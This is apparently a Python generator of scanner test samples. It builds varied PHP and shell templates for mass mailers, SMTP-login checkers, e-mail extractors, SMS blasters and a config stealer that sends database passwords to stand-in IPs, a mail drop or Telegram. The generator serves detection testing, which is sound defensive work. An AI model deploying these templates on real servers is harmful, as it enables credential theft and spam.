"""Mass mailers and their helpers, and what real applications do that looks like
them (round 6, branch mail5; tests/eval-mail.sh, tests/integration/scan_mail.sh).

Written from the technique list in docs/script-rules.md ("Round 6"), from what
compromised shared hosts carry, without opening the corpus's mailer samples:
PHP mass mailers that loop over a list from the request, an upload, a file or
a stolen database and send with mail(), PHPMailer, SwiftMailer/Symfony Mailer
or raw SMTP; SMTP-auth checkers; the kits' inbox-test helpers; e-mail
extractors; SMS blasters; credential stealers that read wp-config.php/.env
and send it out; Perl, Python and shell bulk senders.

Several independent spellings per technique (the loop, the list source, the
send, the variable names, the layout), so that a rule written for one
spelling shows up as a miss on the others. The look-alikes are the shapes a
hosting server really holds: a newsletter plugin mailing its own subscribers
with an unsubscribe link, PHPMailer's mailing-list example fed from the
database, contact forms, password resets, a monitoring cron mailing root, a
backup script, an SMS two-factor sender, an address obfuscator that finds
addresses in a page, a backup tool that reads wp-config.php for its dump.

Everything here is text written to a temp dir and scanned, never run. Hosts
are the documentation networks (RFC 5737) and .invalid / example.* names.
"""

import string

TEST_NET = ["192.0.2.%d", "198.51.100.%d", "203.0.113.%d"]


def _ip(r):
    return r.choice(TEST_NET) % r.randint(2, 250)


def _v(r):
    """A variable name (without $)."""
    w = r.choice(["to", "e", "em", "addr", "mail", "rcpt", "line", "victim", "x", "row", "t", "lead",
                  "target", "u", "item", "one", "m", "dst", "who", "v"])
    return w + "".join(r.choice(string.ascii_lowercase) for _ in range(r.randint(0, 2)))


def _vs(r, k):
    out = []
    while len(out) < k:
        n = _v(r)
        if n not in out:
            out.append(n)
    return out


def _head(r):
    return r.choice(["<?php\n", "<?php\n@error_reporting(0);\n", "<?php\nset_time_limit(0);\n",
                     "<?php\n/* */\nignore_user_abort(true);\n", "<?php\nini_set('max_execution_time', 0);\n"])


def _req(r):
    return r.choice(["$_POST", "$_REQUEST", "$_POST", "$_GET"])


def _key(r, words):
    return r.choice(words)


def _split(r, expr):
    """An expression that splits the text expr into address lines."""
    return r.choice([
        "explode(\"\\n\", %s)" % expr,
        "explode(\"\\r\\n\", trim(%s))" % expr,
        "preg_split('/[\\r\\n]+/', %s)" % expr,
        "preg_split(\"/\\\\s+/\", trim(%s))" % expr,
        "array_filter(array_map('trim', explode(\"\\n\", %s)))" % expr,
        "explode(',', str_replace(array(\"\\r\", \"\\n\"), ',', %s))" % expr,
        "preg_split('/[\\s,;]+/', %s, -1, PREG_SPLIT_NO_EMPTY)" % expr,
    ])


def _headers(r, frm):
    return r.choice([
        "$h = \"From: \" . %s . \"\\r\\n\";\n$h .= \"MIME-Version: 1.0\\r\\nContent-Type: text/html; charset=UTF-8\\r\\n\";\n" % frm,
        "$h = 'MIME-Version: 1.0' . \"\\r\\n\" . 'Content-type: text/html; charset=iso-8859-1' . \"\\r\\n\" . 'From: ' . %s . \"\\r\\n\";\n" % frm,
        "$h = \"From: $fromname <\" . %s . \">\\nReply-To: \" . %s . \"\\nX-Priority: 3\\n\";\n" % (frm, frm),
        "$h = implode(\"\\r\\n\", array('From: ' . %s, 'Content-Type: text/html', 'X-Mailer: Microsoft Outlook 16.0'));\n" % frm,
    ])


def _send_mail(r, to, subj, body):
    f = r.choice(["mail", "@mail", "mail", "mb_send_mail"])
    return r.choice([
        "%s(%s, %s, %s, $h)" % (f, to, subj, body),
        "%s(trim(%s), %s, %s, $h)" % (f, to, subj, body),
        "%s(%s, '=?UTF-8?B?' . base64_encode(%s) . '?=', %s, $h)" % (f, to, subj, body),
    ])


def _report(r, to, ok):
    return r.choice([
        "echo %s . \" => \" . (%s ? 'OK' : 'FAIL') . \"<br>\\n\";\n" % (to, ok),
        "if (%s) { $sent++; } else { $bad++; }\n" % ok,
        "print(%s ? \"<font color=green>sent</font> $%s<br>\" : \"<font color=red>err</font><br>\");\nflush();\n" % (ok, "i"),
        "$log[] = array(%s, %s);\n" % (to, ok),
    ])


def _throttle(r):
    return r.choice(["", "sleep(1);\n", "usleep(250000);\n", "if ($i %% %d == 0) sleep(%d);\n" % (r.choice([10, 50, 100]), r.randint(1, 5)), ""])


def _form(r):
    return r.choice([
        "?>\n<form method=post><textarea name=list></textarea><input name=subject><textarea name=body></textarea><input type=submit></form>\n",
        "?>\n<html><body><form method=\"post\" enctype=\"multipart/form-data\">\n<input type=\"text\" name=\"from\"> <input type=\"file\" name=\"f\">\n<button>Go</button></form></body></html>\n",
        "",
    ])


# ---------------------------------------------------------------------------
# PHP mass mailers


def t_php_post_list(g):
    """mail() per line of a posted list: the classic textarea mailer, in several
    spellings of the split, the loop and the send."""
    r = g.rng
    rq = _req(r)
    to, lst, i = _vs(r, 3)
    k_list = _key(r, ["emails", "list", "lista", "maillist", "to", "victims", "leads", "recipients", "tos", "data"])
    k_sub = _key(r, ["subject", "subj", "s", "title", "sub"])
    k_body = _key(r, ["body", "message", "letter", "msg", "html", "content", "b"])
    k_from = _key(r, ["from", "sender", "fm", "mfrom", "email_from"])
    src = r.choice(["%s['%s']" % (rq, k_list), "base64_decode(%s['%s'])" % (rq, k_list),
                    "stripslashes(%s['%s'])" % (rq, k_list)])
    pre = "$subject = %s['%s'];\n$body = %s['%s'];\n$frm = %s['%s'];\n" % (rq, k_sub, rq, k_body, rq, k_from)
    if r.random() < 0.3:
        pre = "$subject = stripslashes(%s['%s']);\n$body = stripslashes(%s['%s']);\n$frm = trim(%s['%s']);\n" % (
            rq, k_sub, rq, k_body, rq, k_from)
    hdr = _headers(r, "$frm")
    send = _send_mail(r, "$" + to, "$subject", "$body")
    loop = r.choice(["foreach", "for", "while"])
    if loop == "foreach":
        body = "$%s = %s;\n$%s = 0;\nforeach ($%s as $%s) {\n    $%s++;\n    $ok = %s;\n    %s%s}\n" % (
            lst, _split(r, src), i, lst, to, i, send, _report(r, "$" + to, "$ok"), _throttle(r))
    elif loop == "for":
        body = "$%s = %s;\nfor ($%s = 0; $%s < count($%s); $%s++) {\n    $%s = trim($%s[$%s]);\n    if ($%s == '') continue;\n    $ok = %s;\n    %s%s}\n" % (
            lst, _split(r, src), i, i, lst, i, to, lst, i, to, send, _report(r, "$" + to, "$ok"), _throttle(r))
    else:
        body = "$%s = %s;\n$%s = 0;\nwhile ($%s = array_shift($%s)) {\n    $%s++;\n    $ok = %s;\n    %s%s}\n" % (
            lst, _split(r, src), i, to, lst, i, send, _report(r, "$" + to, "$ok"), _throttle(r))
    guard = r.choice(["if (isset(%s['%s'])) {\n" % (rq, k_list), "if (!empty(%s['%s'])) {\n" % (rq, k_sub),
                      "if ($_SERVER['REQUEST_METHOD'] == 'POST') {\n"])
    return _head(r) + guard + pre + hdr + body + "}\n" + _form(r)


def t_php_globals_list(g):
    """The old-style mailer page: the form's fields become variables by
    extract($_POST), a $$k loop, import_request_variables or register_globals
    (the variable is never assigned: the field of the same name fills it), and
    the list variable is split and mailed line by line."""
    r = g.rng
    lst, to, sub, body, frm = r.choice([("emaillist", "email", "subject", "message", "from"),
                                       ("lista", "mail", "assunto", "html", "de"),
                                       ("maillist", "to", "subj", "letter", "sender"),
                                       ("list", "e", "s", "b", "f"),
                                       ("victims", "v", "title", "content", "realname")])
    imp = r.choice([
        "extract($_POST);\n", "extract($_REQUEST, EXTR_OVERWRITE);\n",
        "foreach ($_POST as $k => $v) { $$k = $v; }\n", "foreach ($_REQUEST as $key => $val) ${$key} = stripslashes($val);\n",
        "@import_request_variables('gp');\n", "",
    ])
    action = r.choice(["$action", "$send", "$go"])
    form = ("?>\n<form method=\"post\">\nFrom: <input name=\"%s\"><br>Subject: <input name=\"%s\"><br>\n"
            "<textarea name=\"%s\" rows=10></textarea>\n<textarea name=\"%s\" rows=10></textarea>\n"
            "<input type=\"hidden\" name=\"%s\" value=\"1\"><input type=\"submit\" value=\"Send\">\n</form>\n") % (
        frm, sub, body, lst, action[1:])
    split = r.choice([
        "$all = explode(\"\\n\", $%s);\n" % lst,
        "$all = split(\"\\n\", $%s);\n" % lst,
        "$all = preg_split('/\\r?\\n/', trim($%s));\n" % lst,
    ])
    loop = r.choice([
        "$n = count($all);\nfor ($i = 0; $i < $n; $i++) {\n    $%s = trim($all[$i]);\n" % to,
        "foreach ($all as $%s) {\n    $%s = trim($%s);\n" % (to, to, to),
        "$i = 0;\nwhile ($all[$i]) {\n    $%s = $all[$i];\n    $i++;\n" % to,
    ])
    send = r.choice(["mail($%s, $%s, $%s, \"From: $%s\\r\\nContent-type: text/html\\r\\n\")" % (to, sub, body, frm),
                     "@mail($%s, stripslashes($%s), stripslashes($%s), $hdr)" % (to, sub, body)])
    hdr = "$hdr = \"From: \" . $%s . \"\\nReply-To: \" . $%s . \"\\n\";\n" % (frm, frm)
    code = ("<?php\n" + imp + "if (%s) {\n" % action + hdr + split + loop +
            "    if (%s) echo \"$%s ... sent<br>\";\n    flush();\n}\n}\n" % (send, to))
    if r.random() < 0.5:
        return form.replace("?>\n", "<html><body>\n") + code
    return code + form


def t_php_upload_list(g):
    """The list is an uploaded file: read whole, split, or read line by line."""
    r = g.rng
    rq = _req(r)
    to, fh = _vs(r, 2)
    fk = _key(r, ["list", "file", "emails", "f", "leads", "up"])
    read = r.choice([
        ("$lines = file($_FILES['%s']['tmp_name'], FILE_IGNORE_NEW_LINES | FILE_SKIP_EMPTY_LINES);\n"
         "foreach ($lines as $%s) {\n" % (fk, to)),
        ("$raw = file_get_contents($_FILES['%s']['tmp_name']);\n"
         "foreach (%s as $%s) {\n" % (fk, _split(r, "$raw"), to)),
        ("$%s = fopen($_FILES['%s']['tmp_name'], 'r');\n"
         "while (($%s = fgets($%s)) !== false) {\n    $%s = trim($%s);\n" % (fh, fk, to, fh, to, to)),
        ("$dst = sys_get_temp_dir() . '/' . md5(time());\nmove_uploaded_file($_FILES['%s']['tmp_name'], $dst);\n"
         "foreach (file($dst) as $%s) {\n" % (fk, to)),
        ("$%s = new SplFileObject($_FILES['%s']['tmp_name']);\n"
         "foreach ($%s as $%s) {\n    $%s = trim($%s);\n" % (fh, fk, fh, to, to, to)),
    ])
    pre = "$subject = %s['subject'];\n$body = %s['%s'];\n" % (rq, rq, r.choice(["body", "msg", "html"]))
    hdr = _headers(r, "%s['from']" % rq)
    send = _send_mail(r, "$" + to, "$subject", "$body")
    return (_head(r) + "if (isset($_FILES['%s'])) {\n" % fk + pre + hdr + read +
            "    if (!strpos($%s, '@')) continue;\n    $ok = %s;\n    %s%s}\n}\n" % (
                to, send, _report(r, "$" + to, "$ok"), _throttle(r)) + _form(r))


def t_php_file_list(g):
    """The list is a file dropped beside the script (or named on the command line
    of a PHP CLI sender), the letter from a file or the request."""
    r = g.rng
    to, fh = _vs(r, 2)
    name = r.choice(["list.txt", "emails.txt", "m.txt", "data/1.txt", "leads.csv", "mails.lst", "to.txt", "x/aa.txt",
                     "bases/us.txt", "l.dat"])
    src = r.choice([
        "'%s'" % name, "__DIR__ . '/%s'" % name, "dirname(__FILE__) . '/%s'" % name, "$argv[1]",
        "isset($argv[1]) ? $argv[1] : '%s'" % name, "$_GET['l']",
    ])
    read = r.choice([
        "foreach (file(%s) as $%s) {\n    $%s = trim($%s);\n" % (src, to, to, to),
        "$all = file_get_contents(%s);\nforeach (%s as $%s) {\n" % (src, _split(r, "$all"), to),
        "$%s = fopen(%s, 'r');\nwhile (!feof($%s)) {\n    $%s = trim(fgets($%s));\n" % (fh, src, fh, to, fh),
        "$%s = @fopen(%s, 'rb');\nwhile (($%s = fgets($%s, 4096)) !== false) {\n    $%s = rtrim($%s, \"\\r\\n\");\n" % (
            fh, src, to, fh, to, to),
    ])
    letter = r.choice([
        "$body = file_get_contents(__DIR__ . '/letter.html');\n$subject = 'Your account statement';\n",
        "$body = file_get_contents('%s');\n$subject = trim(file_get_contents('subj.txt'));\n" % r.choice(["l.html", "msg.htm", "letter.txt"]),
        "$body = base64_decode('PGh0bWw+PGJvZHk+VmVyaWZ5PC9ib2R5PjwvaHRtbD4=');\n$subject = 'Action required';\n",
        "$body = $_POST['b'];\n$subject = $_POST['s'];\n",
    ])
    hdr = _headers(r, "'noreply@%s'" % r.choice(["example.com", "$_SERVER[\"HTTP_HOST\"]", "example.org"]))
    send = _send_mail(r, "$" + to, "$subject", "str_replace('[-email-]', $%s, $body)" % to if r.random() < 0.3 else "$body")
    return (_head(r) + letter + hdr + "$i = 0;\n" + read +
            "    if ($%s === '') continue;\n    $i++;\n    $ok = %s;\n    %s%s}\n" % (
                to, send, _report(r, "$" + to, "$ok"), _throttle(r)))


def t_php_phpmailer_list(g):
    """PHPMailer (or its old class.phpmailer.php) per recipient of a posted,
    uploaded or file list, through an SMTP server given in the request."""
    r = g.rng
    rq = _req(r)
    to, m = _vs(r, 2)
    inc = r.choice(["require 'PHPMailer/src/PHPMailer.php';\nrequire 'PHPMailer/src/SMTP.php';\nuse PHPMailer\\PHPMailer\\PHPMailer;\n",
                    "require_once('class.phpmailer.php');\nrequire_once('class.smtp.php');\n",
                    "require __DIR__ . '/vendor/autoload.php';\nuse PHPMailer\\PHPMailer\\PHPMailer;\n"])
    lst = r.choice([
        _split(r, "%s['%s']" % (rq, r.choice(["emails", "list", "to", "mails"]))),
        "file($_FILES['list']['tmp_name'])",
        "file('%s')" % r.choice(["list.txt", "emails.txt", "leads.csv"]),
    ])
    smtp = r.choice([
        "$%s->isSMTP();\n$%s->Host = %s['host'];\n$%s->SMTPAuth = true;\n$%s->Username = %s['user'];\n$%s->Password = %s['pass'];\n$%s->Port = (int)%s['port'];\n" % (
            m, m, rq, m, m, rq, m, rq, m, rq),
        "$%s->IsSMTP();\n$%s->Host = 'mail.example.com';\n$%s->SMTPAuth = true;\n$%s->Username = 'info@example.com';\n$%s->Password = 'x';\n" % (m, m, m, m, m),
        "$%s->isMail();\n" % m,
    ])
    per = r.choice(["clear", "new", "bcc"])
    body = ""
    if per == "new":
        body = ("foreach (%s as $%s) {\n    $%s = new PHPMailer();\n%s    $%s->setFrom(%s['from'], %s['name']);\n"
                "    $%s->addAddress(trim($%s));\n    $%s->Subject = %s['subject'];\n    $%s->msgHTML(%s['body']);\n"
                "    $ok = $%s->send();\n    %s}\n") % (
            lst, to, m, "    " + smtp.replace("\n", "\n    ").rstrip(" "), m, rq, rq, m, to, m, rq, m, rq, m,
            _report(r, "$" + to, "$ok"))
    elif per == "clear":
        body = ("$%s = new PHPMailer();\n%s$%s->SetFrom(%s['from']);\n$%s->Subject = %s['subject'];\n$%s->Body = %s['body'];\n$%s->IsHTML(true);\n"
                "foreach (%s as $%s) {\n    $%s->AddAddress(trim($%s));\n    $ok = $%s->Send();\n    %s    $%s->ClearAddresses();\n%s}\n") % (
            m, smtp, m, rq, m, rq, m, rq, m, lst, to, m, to, m, _report(r, "$" + to, "$ok"), m, _throttle(r))
    else:
        body = ("$%s = new PHPMailer();\n%s$%s->setFrom(%s['from']);\n$%s->Subject = %s['subject'];\n$%s->Body = %s['body'];\n"
                "$%s->addAddress(%s['from']);\n$n = 0;\nforeach (%s as $%s) {\n    $%s->addBCC(trim($%s));\n"
                "    if (++$n %% 50 == 0) { $%s->send(); $%s->clearBCCs(); }\n}\n$%s->send();\n") % (
            m, smtp, m, rq, m, rq, m, rq, m, rq, lst, to, m, to, m, m, m)
    return _head(r) + inc + "if (!empty(%s['subject'])) {\n" % rq + body + "}\n" + _form(r)


def t_php_swift_list(g):
    """SwiftMailer / Symfony Mailer, one message per line of the list."""
    r = g.rng
    rq = _req(r)
    to = _v(r)
    lst = r.choice([_split(r, "%s['emails']" % rq), "file($_FILES['l']['tmp_name'])", "file('list.txt')"])
    kind = r.choice(["swift", "symfony"])
    if kind == "swift":
        code = ("require_once 'vendor/autoload.php';\n"
                "$transport = (new Swift_SmtpTransport(%s['host'], %s['port']))->setUsername(%s['u'])->setPassword(%s['p']);\n"
                "$mailer = new Swift_Mailer($transport);\n"
                "foreach (%s as $%s) {\n    $msg = (new Swift_Message(%s['subject']))->setFrom(%s['from'])->setTo(trim($%s))->setBody(%s['body'], 'text/html');\n"
                "    $ok = $mailer->send($msg);\n    %s}\n") % (rq, rq, rq, rq, lst, to, rq, rq, to, rq, _report(r, "$" + to, "$ok"))
    else:
        code = ("require 'vendor/autoload.php';\nuse Symfony\\Component\\Mailer\\Transport;\nuse Symfony\\Component\\Mailer\\Mailer;\nuse Symfony\\Component\\Mime\\Email;\n"
                "$mailer = new Mailer(Transport::fromDsn(%s['dsn']));\n"
                "foreach (%s as $%s) {\n    $email = (new Email())->from(%s['from'])->to(trim($%s))->subject(%s['subject'])->html(%s['body']);\n"
                "    $mailer->send($email);\n    echo $%s . \"\\n\";\n}\n") % (rq, lst, to, rq, to, rq, rq, to)
    return _head(r) + code


def t_php_raw_smtp(g):
    """Raw SMTP over the script's own socket: EHLO, AUTH LOGIN, MAIL FROM, RCPT
    TO and DATA per recipient of a posted or file list."""
    r = g.rng
    rq = _req(r)
    s, to = _vs(r, 2)
    conn = r.choice([
        "$%s = fsockopen(%s['host'], %s, $en, $es, 15);\n" % (s, rq, r.choice(["25", "587", "(int)%s['port']" % rq])),
        "$%s = stream_socket_client('tcp://' . %s['host'] . ':587', $en, $es, 20);\n" % (s, rq),
        "$%s = @fsockopen('%s', 25);\n" % (s, _ip(r)),
    ])
    w = r.choice(["fputs", "fwrite"])
    cmd = ("function c($s, $l) { %s($s, $l . \"\\r\\n\"); return fgets($s, 512); }\n" % w)
    lst = r.choice([_split(r, "%s['list']" % rq), "file($_FILES['list']['tmp_name'])", "file('%s')" % r.choice(["list.txt", "m.txt"])])
    rc = r.choice(["c($%s, \"RCPT TO:<$%s>\");\n" % (s, to), "c($%s, 'RCPT TO: <' . trim($%s) . '>');\n" % (s, to)])
    return (_head(r) + cmd + conn + "fgets($%s, 512);\nc($%s, 'EHLO ' . gethostname());\n" % (s, s) +
            "c($%s, 'AUTH LOGIN');\nc($%s, base64_encode(%s['user']));\nc($%s, base64_encode(%s['pass']));\n" % (s, s, rq, s, rq) +
            "foreach (%s as $%s) {\n    $%s = trim($%s);\n    c($%s, 'MAIL FROM:<' . %s['from'] . '>');\n    %s" % (lst, to, to, to, s, rq, rc) +
            "    c($%s, 'DATA');\n    %s($%s, \"Subject: \" . %s['subject'] . \"\\r\\nTo: $%s\\r\\n\\r\\n\" . %s['body'] . \"\\r\\n.\\r\\n\");\n    fgets($%s, 512);\n    c($%s, 'RSET');\n}\nc($%s, 'QUIT');\n" % (
                s, w, s, rq, to, rq, s, s, s))


def t_php_db_list(g):
    """A stolen database used as the list: credentials from the request or a site's
    config, SELECT email, mail() with the request's letter to every row."""
    r = g.rng
    rq = _req(r)
    row = _v(r)
    conn = r.choice([
        "$db = new mysqli(%s['h'], %s['u'], %s['p'], %s['d']);\n" % (rq, rq, rq, rq),
        "include '../wp-config.php';\n$db = new mysqli(DB_HOST, DB_USER, DB_PASSWORD, DB_NAME);\n",
        "$db = mysqli_connect(%s['host'], %s['user'], %s['pass'], %s['db']);\n" % (rq, rq, rq, rq),
    ])
    col = r.choice(["user_email", "email", "mail", "customer_email"])
    tbl = r.choice(["wp_users", "users", "customers", "%s['t']" % rq])
    q = "\"SELECT %s FROM \" . %s" % (col, tbl) if tbl.startswith("$") else "'SELECT %s FROM %s'" % (col, tbl)
    hdr = _headers(r, "%s['from']" % rq)
    loop = r.choice([
        "$res = mysqli_query($db, %s);\nwhile ($%s = mysqli_fetch_assoc($res)) {\n    $ok = mail($%s['%s'], %s['subject'], %s['body'], $h);\n" % (q, row, row, col, rq, rq),
        "$res = $db->query(%s);\nwhile ($%s = $res->fetch_row()) {\n    $ok = @mail($%s[0], %s['subject'], %s['body'], $h);\n" % (q, row, row, rq, rq),
    ])
    return _head(r) + conn + hdr + loop + "    %s}\n" % _report(r, "$" + row, "$ok")


def t_php_remote_job(g):
    """A mailer driven from elsewhere: the job (recipients, letter, sender) comes
    as JSON in the request body or is fetched from a URL, and every recipient
    of it gets the letter (the panel-controlled senders of a spam botnet)."""
    r = g.rng
    to, job = _vs(r, 2)
    src = r.choice([
        "$%s = json_decode(file_get_contents('php://input'), true);\n" % job,
        "$%s = json_decode(file_get_contents('http://%s/task.php?id=' . gethostname()), true);\n" % (job, _ip(r)),
        "$%s = json_decode(base64_decode($_POST['j']), true);\n" % job,
        "$ch = curl_init('http://%s/job');\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n$%s = json_decode(curl_exec($ch), true);\n" % (_ip(r), job),
    ])
    k_to = r.choice(["to", "emails", "r", "list", "rcpt"])
    hdr = _headers(r, "$%s['from']" % job)
    send = _send_mail(r, "$" + to, "$%s['subject']" % job, "$%s['body']" % job)
    loop = r.choice([
        "foreach ($%s['%s'] as $%s) {\n" % (job, k_to, to),
        "foreach ((array)$%s['%s'] as $i => $%s) {\n" % (job, k_to, to),
        "for ($i = 0, $n = count($%s['%s']); $i < $n; $i++) {\n    $%s = $%s['%s'][$i];\n" % (job, k_to, to, job, k_to),
    ])
    return (_head(r) + src + hdr + "$done = 0;\n" + loop + "    if (%s) $done++;\n%s}\necho json_encode(array('sent' => $done));\n" % (
        send, _throttle(r)))


# ---------------------------------------------------------------------------
# helpers of the kits


def t_smtp_checker(g):
    """An SMTP-auth checker / cracker: host|user|pass combos from the request or an
    upload, a login tried on each, the working ones kept or reported."""
    r = g.rng
    rq = _req(r)
    ln = _v(r)
    src = r.choice([_split(r, "%s['smtps']" % rq), "file($_FILES['combo']['tmp_name'])", "file('combo.txt')"])
    sep = r.choice(["|", ":", ";"])
    how = r.choice(["raw", "phpmailer"])
    if how == "raw":
        test = ("    $s = @fsockopen($host, $port ? $port : 587, $en, $es, 8);\n    if (!$s) continue;\n    fgets($s);\n"
                "    fwrite($s, \"EHLO x\\r\\n\"); fread($s, 1024);\n    fwrite($s, \"AUTH LOGIN\\r\\n\"); fgets($s);\n"
                "    fwrite($s, base64_encode($user) . \"\\r\\n\"); fgets($s);\n    fwrite($s, base64_encode($pass) . \"\\r\\n\");\n"
                "    $ok = (substr(fgets($s), 0, 3) == '235');\n    fclose($s);\n")
    else:
        test = ("    $m = new PHPMailer();\n    $m->isSMTP();\n    $m->Host = $host;\n    $m->Port = $port;\n    $m->SMTPAuth = true;\n"
                "    $m->Username = $user;\n    $m->Password = $pass;\n    $ok = $m->smtpConnect();\n    $m->smtpClose();\n")
    keep = r.choice([
        "    if ($ok) file_put_contents('good.txt', \"$host|$port|$user|$pass\\n\", FILE_APPEND);\n",
        "    if ($ok) { echo \"<b>LIVE</b> $host $user<br>\"; mail(%s['report'], 'smtp', \"$host|$user|$pass\"); }\n" % rq,
        "    echo ($ok ? 'WORK' : 'DEAD') . \" => $user@$host\\n\";\n",
    ])
    return (_head(r) + "foreach (%s as $%s) {\n    list($host, $port, $user, $pass) = array_pad(explode('%s', trim($%s)), 4, '');\n" % (src, ln, sep, ln) +
            test + keep + "}\n")


def t_inbox_test(g):
    """A kit's delivery test: mails one posted address and prints the server's
    mail setup (the page spammers call before they upload the mailer)."""
    r = g.rng
    rq = _req(r)
    k = r.choice(["email", "e", "to", "mail", "t"])
    send = r.choice([
        "mail(%s['%s'], 'test ' . rand(), 'inbox test ' . $_SERVER['HTTP_HOST'])" % (rq, k),
        "@mail($_GET['%s'], 'Result #' . mt_rand(1000, 9999), php_uname())" % k,
        "mail(trim(%s['%s']), $_SERVER['SERVER_NAME'], 'ok')" % (rq, k),
    ])
    extra = r.choice([
        "echo 'sendmail_path: ' . ini_get('sendmail_path') . '<br>';\necho 'safe: ' . ini_get('disable_functions');\n",
        "echo php_uname() . \"<br>\" . phpversion();\n",
        "echo function_exists('mail') ? 'mail ON' : 'mail OFF';\n",
    ])
    return _head(r) + extra + "if (isset(%s['%s'])) {\n    echo %s ? 'Sent' : 'Failed';\n}\n" % (
        rq if "GET" not in send else "$_GET", k, send) + r.choice(["", "?>\n<form><input name=%s><input type=submit></form>\n" % k])


def t_extractor(g):
    """An e-mail extractor: addresses pulled by regex out of fetched pages, the
    site's files or every table of its database, saved or shown as a list."""
    r = g.rng
    rx = r.choice(["/[a-z0-9_.+-]+@[a-z0-9-]+\\.[a-z0-9.-]+/i", "/[\\w.+-]+@[\\w-]+\\.[\\w.]+/",
                   "/([a-zA-Z0-9._%%+-]+@[a-zA-Z0-9.-]+\\.[a-zA-Z]{2,})/"])
    src = r.choice(["urls", "db", "files"])
    rq = _req(r)
    if src == "urls":
        body = ("foreach (%s as $u) {\n    $html = @file_get_contents(trim($u));\n    preg_match_all('%s', $html, $mm);\n"
                "    foreach ($mm[0] as $e) $found[strtolower($e)] = 1;\n}\n") % (_split(r, "%s['urls']" % rq), rx)
    elif src == "db":
        body = ("$db = new mysqli(%s['h'], %s['u'], %s['p'], %s['d']);\n$t = $db->query('SHOW TABLES');\n"
                "while ($tb = $t->fetch_row()) {\n    $rs = $db->query('SELECT * FROM `' . $tb[0] . '`');\n"
                "    while ($row = $rs->fetch_row()) foreach ($row as $c) if (preg_match_all('%s', $c, $mm)) foreach ($mm[0] as $e) $found[$e] = 1;\n}\n") % (
            rq, rq, rq, rq, rx)
    else:
        body = ("$it = new RecursiveIteratorIterator(new RecursiveDirectoryIterator(%s['dir']));\nforeach ($it as $f) {\n"
                "    if ($f->isFile() && preg_match_all('%s', file_get_contents($f), $mm)) foreach ($mm[0] as $e) $found[$e] = 1;\n}\n") % (rq, rx)
    out = r.choice([
        "file_put_contents('emails_' . date('Ymd') . '.txt', implode(\"\\n\", array_keys($found)));\n",
        "header('Content-Disposition: attachment; filename=\"emails.txt\"');\necho implode(\"\\r\\n\", array_keys($found));\n",
        "echo '<textarea>' . implode(\"\\n\", array_keys($found)) . '</textarea>';\n",
    ])
    return _head(r) + "set_time_limit(0);\n$found = array();\n" + body + out


def t_sms_blaster(g):
    """SMS blaster: numbers from the request or a file, the text from the request,
    one API call (or one carrier e-mail gateway message) per number."""
    r = g.rng
    rq = _req(r)
    n = _v(r)
    lst = r.choice([_split(r, "%s['numbers']" % rq), "file($_FILES['nums']['tmp_name'])", "file('numbers.txt')"])
    send = r.choice([
        ("    $ch = curl_init('https://api.twilio.example/2010-04-01/Accounts/' . %s['sid'] . '/Messages.json');\n"
         "    curl_setopt($ch, CURLOPT_USERPWD, %s['sid'] . ':' . %s['token']);\n"
         "    curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query(array('To' => trim($%s), 'From' => %s['from'], 'Body' => %s['text'])));\n"
         "    curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\n    $res = curl_exec($ch);\n") % (rq, rq, rq, n, rq, rq),
        ("    $res = file_get_contents('https://rest.nexmo.example/sms/json?' . http_build_query(array('api_key' => %s['k'], 'api_secret' => %s['s'], 'to' => trim($%s), 'from' => %s['from'], 'text' => %s['msg'])));\n") % (
            rq, rq, n, rq, rq),
        ("    $res = mail(trim($%s) . '@' . %s['gateway'], '', %s['text']);\n") % (n, rq, rq),
    ])
    return _head(r) + "foreach (%s as $%s) {\n" % (lst, n) + send + "    echo $%s . ' ' . (int)(bool)$res . \"<br>\";\n%s}\n" % (n, _throttle(r))


def t_cred_stealer(g):
    """A config stealer: finds the sites' wp-config.php / .env / configuration.php,
    pulls the database passwords and sends them out (mail, HTTP POST, Telegram)."""
    r = g.rng
    lang = r.choice(["php", "php", "sh"])
    g.lang = lang
    ext = r.choice(["mail", "post", "tg"])
    if lang == "php":
        find = r.choice([
            "foreach (glob('/home/*/public_html/wp-config.php') as $f) {\n",
            "$it = new RecursiveIteratorIterator(new RecursiveDirectoryIterator('/home', FilesystemIterator::SKIP_DOTS));\nforeach ($it as $f) {\n    if (!in_array(basename($f), array('wp-config.php', '.env', 'configuration.php'))) continue;\n",
            "foreach (explode(\"\\n\", shell_exec('find /home -name wp-config.php 2>/dev/null')) as $f) {\n    if (!$f) continue;\n",
        ])
        grab = r.choice([
            "    $c = file_get_contents($f);\n    preg_match_all(\"/define\\\\(\\\\s*'(DB_NAME|DB_USER|DB_PASSWORD|DB_HOST)'\\\\s*,\\\\s*'([^']*)'/\", $c, $m);\n    $out .= $f . ' ' . implode('|', $m[2]) . \"\\n\";\n",
            "    $c = @file_get_contents($f);\n    if (preg_match('/DB_PASSWORD\\s*=\\s*(.*)/', $c, $m) || preg_match(\"/'DB_PASSWORD',\\s*'(.*?)'/\", $c, $m)) $out .= \"$f:$m[1]\\n\";\n",
        ])
        send = {"mail": "mail('%s', 'cfg ' . $_SERVER['HTTP_HOST'], $out);\n" % r.choice(["drop@example.net", "x0x@example.org"]),
                "post": "$ch = curl_init('http://%s/g.php');\ncurl_setopt($ch, CURLOPT_POST, 1);\ncurl_setopt($ch, CURLOPT_POSTFIELDS, array('d' => base64_encode($out)));\ncurl_exec($ch);\n" % _ip(r),
                "tg": "file_get_contents('https://api.telegram.org/bot' . $tok . '/sendMessage?chat_id=' . $cid . '&text=' . urlencode($out));\n"}[ext]
        return _head(r) + "$tok = '123456:AAE'; $cid = '-100200';\n$out = '';\n" + find + grab + "}\n" + send
    find = r.choice([
        "for f in $(find / -name wp-config.php -o -name .env 2>/dev/null); do\n",
        "find /home /var/www -name 'wp-config.php' 2>/dev/null | while read f; do\n",
        "for f in /home/*/public_html/wp-config.php /home/*/public_html/.env; do\n",
    ])
    grab = "  grep -E \"DB_(NAME|USER|PASSWORD|HOST)\" \"$f\" >> /tmp/.c\ndone\n"
    send = {"mail": "mail -s \"$(hostname)\" drop@example.net < /tmp/.c\n",
            "post": "curl -s -F \"f=@/tmp/.c\" http://%s/up.php\n" % _ip(r),
            "tg": "curl -s \"https://api.telegram.org/bot$T/sendDocument\" -F chat_id=$C -F document=@/tmp/.c\n"}[ext]
    return "#!/bin/sh\n" + find + grab + send + "rm -f /tmp/.c\n"


# ---------------------------------------------------------------------------
# Perl, Python and shell bulk senders


def t_script_bulk(g):
